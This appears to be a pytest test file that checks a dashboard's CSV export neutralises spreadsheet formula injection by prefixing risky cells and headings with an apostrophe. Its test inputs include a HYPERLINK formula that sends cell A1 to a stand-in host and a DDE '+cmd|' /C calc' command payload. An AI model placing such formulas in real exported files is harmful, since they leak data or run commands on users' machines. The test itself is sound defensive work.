"""CSV of the pages, as a spreadsheet takes it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import polars as pl
import pytest

from app.dashboard.spreadsheet import written


def cells(frame: pl.DataFrame) -> list[list[str]]:
    """Return the rows below the heading as a reader of CSV finds them."""
    return list(csv.reader(io.StringIO(written(frame), newline="")))[1:]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://host/"&A1,"x")', '\'=HYPERLINK("http://host/"&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("+5.25", "+5.25"),
        ("-1.5e-07", "-1.5e-07"),
        ("-5\n=1", "'-5\n=1"),
        ("--5", "'--5"),
        ("SYQ1", "SYQ1"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        ("", ""),
        (None, ""),
    ],
)
@pytest.mark.parametrize("kind", [pl.String, pl.Categorical])
def test_a_text_is_no_formula(text: str | None, cell: str, kind: type[pl.DataType]) -> None:
    frame = pl.DataFrame({"name": ["x", text], "n": [1, 2]}).cast({"name": kind})
    assert cells(frame)[1] == [cell, "2"]


def test_numbers_and_times_stay_what_they_are() -> None:
    frame = pl.DataFrame(
        {
            "count": [-1],
            "ratio": [-1.5e-7],
            "exact": [Decimal("-2.50")],
            "at": [datetime(2026, 3, 1, tzinfo=UTC)],
            "is_open": [True],
        }
    )
    assert written(frame) == frame.write_csv()
    assert cells(frame)[0][:3] == ["-1", "-1.5e-7", "-2.50"]


def test_a_heading_is_no_formula() -> None:
    frame = pl.DataFrame({"=1+1": [1], "name": ["=2"], "@x": [-3]})
    assert written(frame) == "'=1+1,name,'@x\n1,'=2,-3\n"


def test_a_table_without_texts_or_rows_is_written() -> None:
    assert written(pl.DataFrame({"n": [1]})) == "n\n1\n"
    assert written(pl.DataFrame(schema={"name": pl.String})) == "name\n"
    assert written(pl.DataFrame({"kind": ["=a"]}, schema={"kind": pl.Enum(["=a"])})) == (
        "kind\n'=a\n"
    )
